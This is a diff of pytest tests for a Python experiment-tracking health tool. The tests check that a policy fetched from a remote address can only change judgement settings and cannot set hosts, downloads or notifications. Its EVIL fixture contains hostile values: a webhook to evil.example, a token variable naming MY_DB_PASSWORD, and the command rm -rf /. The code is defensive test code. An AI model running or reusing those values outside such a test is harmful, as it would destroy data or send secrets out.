@@ -19,6 +19,7 @@ from tracker_health.config import Config, preset
 from tracker_health.errors import ConfigError
 from tracker_health.policy import VARIABLE, policy_of
 from tracker_health.settings import effective
+from tracker_health.settings_values import KEYS, OF_JUDGEMENT, SECTIONS
 
 POLICY = """
 ignore = ["LOS004"]
@@ -312,6 +313,73 @@ def test_python_callers_are_held_to_it_where_they_write(written, monkeypatch):
     assert (free.ignore, free.thresholds["diverged"]) == ({"LOS004", "LOS006"}, {"sigmas": 50})
     assert resolved("default", writes=True).ignore == {"LOS004"}
     assert resolved(held, writes=True) is held, "once is enough"
+
+
+EVIL = """
+ignore = ["LOS004"]
+tracking_uri = "http://evil.example"
+trusted_hosts = ["evil.example"]
+max_download = "9TB"
+locked = ["*", "ignore", "tracking_uri", "notify"]
+[notify]
+webhook = "https://evil.example/x"
+token_env = "MY_DB_PASSWORD"
+command = ["rm", "-rf", "/"]
+[probes.diverged]
+sigmas = 7
+[[overrides]]
+match = "experiment:rl-*"
+ignore = ["LOS005"]
+max_download = "9TB"
+"""
+
+
+@pytest.mark.parametrize("work", ["asked", "from the copy"])
+def test_an_address_says_how_runs_are_judged_and_nothing_else(address, monkeypatch, tmp_path, work):
+    monkeypatch.setattr(policy, "FRESH_SECONDS", 0.0)
+    address.answers = EVIL
+    own = '[notify]\nwebhook = "https://mine.example/x"\n'
+    (tmp_path / "tracker-health.toml").write_text(own)
+    one = effective({}, environ=address.environ, folder=tmp_path)
+    if work != "asked":
+        address.answers = 503
+        one = effective({}, environ=address.environ, folder=tmp_path)
+    kept = one.config
+    assert (kept.ignore, kept.thresholds) == ({"LOS004"}, {"diverged": {"sigmas": 7}})
+    assert kept.for_run({"experiment": "rl-1"}).ignore == {"LOS005"}
+    assert (kept.notify.webhook, kept.notify.token_env, kept.notify.command) == ("https://mine.example/x", "", ())
+    assert (kept.trusted_hosts, kept.max_download, one.tracking_uri) == ((), Config().max_download, None)
+    (told,) = [text for text in one.warnings if "does nothing" in text]
+    named = ("tracking_uri", "trusted_hosts", "max_download", "notify.token_env", "notify.command", "locked: notify")
+    assert [name for name in named if name not in told] == []
+    assert "the environment of this machine" in told
+    (tmp_path / "tracker-health.toml").write_text("[probes.diverged]\nsigmas = 9\n")
+    refused = effective({}, environ=address.environ, folder=tmp_path)
+    assert refused.config.thresholds == {"diverged": {"sigmas": 7}}, "the star locks what judges"
+
+
+def test_every_key_is_of_judgement_or_named_here():
+    """A new key may come from no address before somebody has thought about it."""
+    foreign = {"max_download", "tracking_uri", "trusted_hosts", "docs_url", "auto", "notify"}
+    assert {*KEYS, *SECTIONS, "match", "overrides"} == {*OF_JUDGEMENT, *foreign}
+    assert not OF_JUDGEMENT & foreign
+
+
+def test_a_policy_over_https_is_not_led_to_plain_http():
+    from urllib.error import HTTPError
+    from urllib.request import HTTPRedirectHandler, Request
+
+    from tracker_health.stores.web import opener
+
+    def led(to, **more):
+        (handler,) = [one for one in opener(**more).handlers if isinstance(one, HTTPRedirectHandler)]
+        with suppress(HTTPError):
+            return handler.redirect_request(Request("https://a.example/p"), None, 302, "", {}, to).full_url
+
+    assert led("https://b.example/p") == "https://b.example/p"
+    assert led("http://b.example/p") is led("ftp://b.example/p", unencrypted=True) is None
+    with pytest.raises(ConfigError, match="plain http"):
+        policy_of({VARIABLE: "http://a.example/p.toml?sig=s3cret"})
 
 
 def test_without_one_nothing_changes(monkeypatch):
